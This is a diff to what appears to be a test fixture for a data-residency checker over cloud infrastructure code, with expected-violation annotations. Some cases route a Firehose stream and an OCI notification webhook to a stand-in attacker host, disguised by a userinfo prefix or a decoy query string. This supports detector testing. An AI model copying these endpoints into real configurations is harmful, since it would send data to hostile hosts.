@@ -45,6 +45,20 @@ aws.dms.Endpoint(
     tags=NON_PERSONAL,
 )
 
+# An RDS host in us-east-1 of nobody knows whom: a region is not an owner.
+# violation: residency-named-places
+aws.dms.Endpoint(
+    "dms-target-undeclared",
+    endpoint_id="dms-target-undeclared",
+    endpoint_type="target",
+    engine_name="postgres",
+    server_name="analytics.x7bq2mz01.us-east-1.rds.amazonaws.com",
+    port=5432,
+    database_name="analytics",
+    username="replicator",
+    tags=NON_PERSONAL,
+)
+
 # --- Firehose HTTP endpoints and DataSync locations: partner URLs and hosts.
 backup = aws.s3.Bucket("firehose-backup", bucket="fixture-firehose-backup", tags=NON_PERSONAL)
 
@@ -81,6 +95,16 @@ http_stream("events-userinfo", "https://hooks.partner-approved.example@attacker.
 # An API Gateway host in us-east-1: a region is not an owner, and the host names none.
 # violation: residency-named-places
 http_stream("events-to-some-api", "https://k3x9q2.execute-api.us-east-1.amazonaws.com/prod/in")
+
+# violation: residency-named-places
+# violation: residency-data-flow
+aws.datasync.LocationObjectStorage(
+    "partner-object-store",
+    server_hostname="storage.partner.example",
+    bucket_name="exports",
+    agent_arns=[f"arn:aws:datasync:us-east-1:{OURS}:agent/agent-0b1c2d3e4f5a6b7c8"],
+    tags=NON_PERSONAL,
+)
 
 # --- Lambda destinations: an ARN names region and account.
 # Failures go to a queue in eu-west-1.
@@ -216,7 +240,22 @@ oci.goldengate.Connection(
     freeform_tags=OCI_NON_PERSONAL,
 )
 
-# --- OCI notifications: a function subscription names the function by OCID (iad).
+# --- OCI notifications: only the webhook's host counts, never its query string.
+# violation: residency-named-places
+# violation: residency-data-flow
+oci.ons.Subscription(
+    "alerts-webhook",
+    compartment_id=TENANCY,
+    topic_id="ocid1.onstopic.oc1.iad.aaaaaaaafixturetopic",
+    protocol="CUSTOM_HTTPS",
+    endpoint=(
+        "https://hooks.attacker.example/notify"
+        "?relay=https://notification.us-ashburn-1.oraclecloud.com"
+    ),
+    freeform_tags=OCI_NON_PERSONAL,
+)
+
+# A function subscription names the function by OCID (iad).
 # ok: residency-named-places
 oci.ons.Subscription(
     "alerts-function",
